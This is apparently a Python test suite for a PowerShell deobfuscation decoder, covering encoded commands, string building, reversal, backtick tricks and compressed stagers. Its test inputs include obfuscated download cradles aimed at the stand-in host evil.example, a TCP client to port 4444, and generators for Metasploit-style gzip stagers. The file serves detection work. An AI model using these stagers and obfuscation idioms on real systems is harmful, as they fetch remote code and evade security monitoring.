"""PowerShell obfuscation peeled by rules: -EncodedCommand, string building, unwrapping.

Every encoded input is built here by code from the plain script it hides, never typed in as a blob.
"""

from __future__ import annotations

import base64
import gzip
import random
import time
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shellwatch.decode import encodings, powershell
from shellwatch.decode.engine import decode
from shellwatch.decode.model import Budget, Limits

STEPS = (*powershell.STEPS, *encodings.STEPS)
SCRIPT = "Write-Host hi"


def enc(script: str) -> str:
    """What ``-EncodedCommand`` takes: base64 of the UTF-16LE script."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def raw_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(data) + packer.flush()


def gzip_stager(script: str) -> str:
    """The stager Metasploit's psh templates write: a GzipStream over FromBase64String, read to the end."""
    payload = b64(gzip.compress(script.encode()))
    return (
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream("
        f"(New-Object IO.MemoryStream(,[Convert]::FromBase64String('{payload}'))),"
        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    )


def deflate_stager(script: str) -> str:
    """Invoke-Obfuscation's compressed launcher: a DeflateStream read with an explicit encoding."""
    payload = b64(raw_deflate(script.encode()))
    return (
        "iex(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream("
        f"[IO.MemoryStream][Convert]::FromBase64String('{payload}'),"
        "[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
    )


def peel(text: str, limits: Limits | None = None) -> tuple[list[str], str]:
    result = decode(text, STEPS, limits or Limits())
    return [layer.technique for layer in result.layers], result.text


def _abbreviations() -> list[str]:
    name = "encodedcommand"
    return ["e", "ec", *(name[:end] for end in range(2, len(name) + 1))]


@pytest.mark.parametrize("switch", _abbreviations())
@pytest.mark.parametrize("dash", ["-", "/", "\u2013", "\u2014", "\u2015"])
def test_every_spelling_of_encodedcommand_is_decoded(switch: str, dash: str) -> None:
    script = "Get-Process | Stop-Process -Force"
    for spelling in (switch, switch.upper(), switch.capitalize()):
        text = f"powershell.exe -nop -w hidden {dash}{spelling} {enc(script)}"
        step = powershell.decode_encoded_command(text, Budget())
        assert step is not None, text
        assert step.technique == "powershell-encodedcommand"
        assert step.text == f"powershell.exe -nop -w hidden -Command {script}"


def test_encodedcommand_in_quotes_is_decoded() -> None:
    text = f'powershell -NoP -NonI -W Hidden -Exec Bypass -Enc "{enc(SCRIPT)}"'
    assert peel(text) == (
        ["powershell-encodedcommand"],
        f"powershell -NoP -NonI -W Hidden -Exec Bypass -Command {SCRIPT}",
    )


def test_other_switches_and_non_utf16_payloads_are_left_alone() -> None:
    for text in (
        f"powershell -ExecutionPolicy {enc(SCRIPT)}",
        f"powershell -enc {b64(SCRIPT.encode())}",
        "powershell -e notbase64!!",
        "grep -e pattern file.txt",
    ):
        assert powershell.decode_encoded_command(text, Budget()) is None, text


@pytest.mark.parametrize(
    ("text", "techniques", "result"),
    [
        ("iex ('Write'+'-Host'+' hi')", ["powershell-concat", "powershell-iex"], SCRIPT),
        (
            "Invoke-Expression ('{1}{0}' -f 'Host hi','Write-')",
            ["powershell-format", "powershell-iex"],
            SCRIPT,
        ),
        (
            "& ([char]105+[char]101+[char]120) 'Write-Host hi'",
            ["powershell-char", "powershell-concat", "powershell-iex"],
            SCRIPT,
        ),
        (
            "iex ([char[]](" + ",".join(str(ord(char)) for char in SCRIPT) + ") -join '')",
            ["powershell-char", "powershell-join", "powershell-iex"],
            SCRIPT,
        ),
        ("iex ('WrXte-Host hi' -replace 'X','i')", ["powershell-replace", "powershell-iex"], SCRIPT),
        ("iex ('WrXte-Host hi'.Replace('X','i'))", ["powershell-replace", "powershell-iex"], SCRIPT),
        (".('iex') 'Write-Host hi'", ["powershell-iex"], SCRIPT),
        ("&('iex') 'Write-Host hi'", ["powershell-iex"], SCRIPT),
        ("'Write-Host hi' | Invoke-Expression", ["powershell-iex"], SCRIPT),
        ("[ScriptBlock]::Create('Write-Host hi').Invoke()", ["powershell-scriptblock"], SCRIPT),
        ("& ([ScriptBlock]::Create('Write-Host hi'))", ["powershell-scriptblock"], SCRIPT),
    ],
)
def test_string_building_and_unwrapping(text: str, techniques: list[str], result: str) -> None:
    assert peel(text) == (techniques, result)


def test_reversal_by_negative_index_range() -> None:
    reversed_script = SCRIPT[::-1]
    text = f"$s='{reversed_script}'; iex ($s[-1..-{len(SCRIPT)}] -join '')"
    techniques, decoded = peel(text)
    assert techniques[0] == "powershell-reverse"
    assert decoded.endswith(SCRIPT)


def test_reversal_by_array_reverse() -> None:
    text = f"$a='{SCRIPT[::-1]}'.ToCharArray(); [array]::Reverse($a); iex ($a -join '')"
    techniques, decoded = peel(text)
    assert techniques == ["powershell-reverse", "powershell-iex"]
    assert decoded.endswith(SCRIPT)


def test_char_codes_xored_with_a_key() -> None:
    codes = ",".join(str(ord(char) ^ 0x5D) for char in "iex 'Write-Host hi'")
    text = f"([char[]]({codes}) | % {{ [char]($_ -bxor \"0x5d\") }}) -join '' | .('iex')"
    assert peel(text)[1] == SCRIPT  # the decoded script was itself an iex of a literal


def test_binary_codes_cut_by_several_split_separators() -> None:
    pieces = [format(ord(char), "b") for char in SCRIPT]
    joined = "".join(piece + "};"[index % 2] for index, piece in enumerate(pieces)).rstrip("};")
    text = (
        f"iex (('{joined}' -split '}}' -split ';' | ForEach-Object "
        "{ [char]([Convert]::ToInt16(([string]$_), 2)) }) -join '')"
    )
    assert peel(text)[1] == SCRIPT


def test_backticks_inside_words_are_dropped() -> None:
    step = powershell.decode_backticks("Wr`ite-H`o`st 'hi'; I`E`X $x", Budget())
    assert step is not None
    assert step.technique == "powershell-backtick"
    assert step.text == "Write-Host 'hi'; IEX $x"


@pytest.mark.parametrize(
    ("encoding", "data"),
    [("Unicode", SCRIPT.encode("utf-16-le")), ("UTF8", SCRIPT.encode()), ("ASCII", SCRIPT.encode())],
)
def test_frombase64string_with_getstring(encoding: str, data: bytes) -> None:
    decoded = f"[System.Convert]::FromBase64String('{b64(data)}')"
    text = f"iex ([System.Text.Encoding]::{encoding}.GetString({decoded}))"
    assert peel(text) == (["powershell-frombase64", "powershell-iex"], SCRIPT)


@pytest.mark.parametrize("stager", [gzip_stager, deflate_stager])
def test_compressed_stagers_are_inflated(stager: object) -> None:
    assert callable(stager)
    script = "$c = New-Object Net.Sockets.TCPClient('10.0.0.1',4444)"
    assert peel(stager(script)) == (["powershell-compressed", "powershell-iex"], script)


def test_gzip_in_base64_in_encodedcommand() -> None:
    script = "Write-Host nested twice"
    text = f"powershell.exe -nop -w hidden -enc {enc(gzip_stager(script))}"
    techniques, decoded = peel(text)
    assert techniques == ["powershell-encodedcommand", "powershell-compressed", "powershell-iex"]
    assert decoded == f"powershell.exe -nop -w hidden -Command {script}"


def test_encodedcommand_inside_a_compressed_stager_inside_encodedcommand() -> None:
    inner = f"powershell -enc {enc(SCRIPT)}"
    techniques, decoded = peel(f"powershell -enc {enc(gzip_stager(inner))}")
    assert techniques.count("powershell-encodedcommand") == 2
    assert decoded == f"powershell -Command powershell -Command {SCRIPT}"


def test_concatenation_inside_iex_inside_encodedcommand() -> None:
    script = "iex ('Invoke-Web'+'Request http://evil.example/'+'a.ps1')"
    techniques, decoded = peel(f"powershell -nop -ec {enc(script)}")
    assert techniques == ["powershell-encodedcommand", "powershell-concat", "powershell-iex"]
    assert decoded == "powershell -nop -Command Invoke-WebRequest http://evil.example/a.ps1"


def test_plain_powershell_is_left_alone() -> None:
    for text in (
        "Get-ChildItem -Path C:\\Users -Recurse | Where-Object { $_.Length -gt 1MB }",
        '$total = $a + $b; Write-Output "Sum: $total"',
        "Write-Host ('Found ' + $count + ' files')",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1",
    ):
        for step in powershell.STEPS:
            assert step(text, Budget()) is None, (step, text)


def test_compressed_bomb_stops_at_the_output_limit_quickly() -> None:
    limits = Limits(max_output=64 * 1024, max_seconds=2.0)
    text = gzip_stager("\0" * (50 * 1024 * 1024))
    started = time.monotonic()
    result = decode(text, STEPS, limits)
    assert time.monotonic() - started < 1.5
    assert result.stopped is not None and "output limit" in result.stopped
    assert all(len(layer.after) <= limits.max_output for layer in result.layers)


SMALL = Limits(max_depth=4, max_output=4096, max_seconds=0.2, max_ticks=20_000)
PS_PIECES = st.sampled_from(
    [
        "iex",
        "IEX",
        "(",
        ")",
        "'",
        '"',
        "+",
        "-f",
        "-join",
        "-replace",
        "[char]",
        "[char[]]",
        "[ScriptBlock]::Create",
        "[Convert]::FromBase64String",
        "-enc ",
        "`",
        "{0}",
        "{1}",
        ",",
        "$a",
        "=",
        ";",
        "|",
        "&",
        ".",
        " ",
        "[-1..-9]",
        "72",
        "AAAA",
        "Write-Host",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=300), st.lists(PS_PIECES, max_size=60).map("".join)))
def test_random_text_never_raises_and_ends_within_small_limits(text: str) -> None:
    started = time.monotonic()
    result = decode(text, STEPS, SMALL)
    assert time.monotonic() - started < 2.0
    assert len(result.layers) <= SMALL.max_depth
    assert all(len(layer.after) <= SMALL.max_output for layer in result.layers)


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), min_size=3, max_size=120))
def test_any_printable_script_comes_back_from_encodedcommand(script: str) -> None:
    step = powershell.decode_encoded_command(f"powershell -enc {enc(script)}", Budget())
    assert step is not None
    assert step.text == f"powershell -Command {script}"


def test_format_with_shuffled_pieces() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
    pieces = [script[start : start + 5] for start in range(0, len(script), 5)]
    order = random.Random(7).sample(range(len(pieces)), len(pieces))
    template = "".join(f"{{{order.index(index)}}}" for index in range(len(pieces)))
    arguments = ",".join(powershell.render(pieces[index]) or "" for index in order)
    techniques, decoded = peel(f'iex ("{template}" -f {arguments})')
    assert techniques == ["powershell-format", "powershell-iex"]
    assert decoded == script


@pytest.mark.parametrize(
    "invoker",
    [
        "&( $PSHome[4]+$PSHome[30]+'x')",
        ".( $PSHome[21]+$PSHome[34]+'x')",
        "& ( $ShellId[1]+$ShellId[13]+'x')",
        "&( $env:Public[13]+$env:Public[5]+'x')",
        ".( $env:ComSpec[4,15,25]-Join'')",
        "&( $env:ComSpec[4,24,25]-Join'')",
        "& ((Get-Variable '*mdr*').Name[3,11,2]-Join'')",
        ".( (GV '*mdr*').Name[3,11,2]-Join'')",
        "&( $VerbosePreference.ToString()[1,3]+'x'-Join'')",
        ".( ([String]$VerbosePreference)[1,3]+'x'-Join'')",
        "& (Get-Command *ke-e*)",
        "&('ie'+'x')",
    ],
)
def test_the_spellings_of_iex_built_from_automatic_variables(invoker: str) -> None:
    assert peel(f"{invoker} ('{SCRIPT}')")[1] == SCRIPT


def test_an_iex_spelling_is_named_even_when_its_argument_is_unknown() -> None:
    techniques, decoded = peel("powershell $env:I4Pzl|.(Get-C`ommand ('{1}e{0}'-f'x','i'))")
    assert techniques == ["powershell-backtick", "powershell-format", "powershell-iex"]
    assert decoded == "powershell $env:I4Pzl|iex"


def test_variables_assigned_once_are_followed() -> None:
    text = f"$a='I'; $b='EX'; $c='{SCRIPT}'; &($a+$b) $c"
    techniques, decoded = peel(text)
    assert techniques == ["powershell-concat", "powershell-iex"]
    assert decoded.endswith(f"; {SCRIPT}")


def test_variables_assigned_twice_are_not_followed() -> None:
    text = "$a='I'; if ($x) { $a='X' }; $a='I'; iex ($a+'EX')"
    assert "iex" in peel(text)[1]


def test_output_field_separator_joins_a_char_array() -> None:
    codes = ",".join(str(ord(char)) for char in SCRIPT)
    text = f"iex (\"$(Set-Item 'Variable:OFS' '')\" + [String]([char[]]({codes})) + \"$(sv 'OFS' ' ')\")"
    assert peel(text)[1] == SCRIPT


def test_member_names_quoted_with_backticks_become_names() -> None:
    text = '$w."d`OWN`loAdfi`Le"($u, $p); [Net.ServicePointManager]::"SecURi`T`ypRO`T`oCOL" = \'Tls12\''
    techniques, decoded = peel(text)
    assert techniques == ["powershell-backtick", "powershell-case"]
    assert decoded == "$w.DownloadFile($u, $p); [Net.ServicePointManager]::SecurityProtocol = 'Tls12'"


def test_random_case_of_well_known_names_is_undone_and_strings_kept() -> None:
    text = "iNVoKe-eXPreSSioN (NEw-oBjEcT NeT.WebCLIenT).dOWnLoaDStRiNg('http://Ev.Il/A') -JoIN ''"
    step = powershell.decode_case(text, Budget())
    assert step is not None and step.technique == "powershell-case"
    assert step.text == (
        "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://Ev.Il/A') -join ''"
    )


@pytest.mark.parametrize(
    "text",
    [
        "ForEach ($item in $list) { If ($item) { $x.SubString(1) } ElseIf ($y) { Write-Host 'A' } }",
        "Get-ChildItem -Path C:\\ | Select-Object Name; IEX $cmd; Invoke-Expression $Command",
        "Write-Host 'rANDom CaSE inside a string' -ForegroundColor Green",
    ],
)
def test_how_people_write_names_is_left_alone(text: str) -> None:
    assert powershell.decode_case(text, Budget()) is None


@pytest.mark.parametrize(
    "text",
    [
        "$lines = $text.Split([char]13 + [char]10)",
        "$letters = [char[]]'abc' | ForEach-Object { $_ }",
        "$base = 'C:\\Tools'; $exe = $base + '\\tool.exe'; & $exe",
        "$greeting = 'Hello, ' + 'World'",
        "1..1000000 | ForEach-Object { $_ * 2 }",
        "$x = -join $name",
    ],
)
def test_plain_code_with_lookalike_constructs_is_left_alone(text: str) -> None:
    for step in powershell.STEPS:
        assert step(text, Budget()) is None, (step, text)


def test_quoted_command_lines_are_read_as_code() -> None:
    text = "cmd.exe /c powershell.exe -nop -c \"&('I'+'EX') ('{1}{0}' -f 'hi','Write-Host ')\""
    techniques, decoded = peel(text)
    assert techniques == ["powershell-concat", "powershell-format", "powershell-iex"]
    assert decoded == 'cmd.exe /c powershell.exe -nop -c "Write-Host hi"'


@pytest.mark.parametrize(
    "text",
    [
        "(" * 5000 + "'a'" + ")" * 5000,
        "[char]" * 3000 + "65",
        "'a'" + ".ToString()" * 3000,
        "<#" * 20000,
        "@'\n" * 5000,
        "|".join(["%{$_}"] * 3000),
        "+".join(["'ab'"] * 20000),
    ],
)
def test_deep_or_long_constructs_end_quickly(text: str) -> None:
    started = time.monotonic()
    result = decode(text, STEPS, Limits(max_seconds=1.0))
    assert time.monotonic() - started < 3.0
    assert result.original == text


@pytest.mark.parametrize(
    "template",
    [
        "iex ('{r}'[-1..-{n}] -join '')",
        "$x = '{r}'; iex (-join $x[-1..-{n}])",
        "$x = '{r}'; iex (-join $x[-1..-($x.Length)])",
        "Set-Variable 'k' ('{r}'); iex ((Get-Variable 'k').Value[-1..-{n}] -join '')",
        "$c = [char[]]'{r}'; [array]::Reverse($c); iex (-join $c)",
    ],
)
def test_every_reversal_idiom(template: str) -> None:
    text = template.format(r=SCRIPT[::-1], n=len(SCRIPT))
    techniques, decoded = peel(text)
    assert techniques[0] == "powershell-reverse"
    assert techniques[-1] == "powershell-iex"
    assert decoded.endswith(SCRIPT)


def test_backticks_of_a_unix_shell_are_command_substitution_and_stay() -> None:
    for text in ("echo foo`id`bar", "tar czf backup-`date +%F`.tgz /etc", "ls `pwd`/dir"):
        assert powershell.decode_backticks(text, Budget()) is None, text
    step = powershell.decode_backticks("sh -c 'I`E`X'; Ne`w-Ob`ject x", Budget())
    assert step is not None and step.text == "sh -c 'I`E`X'; New-Object x"
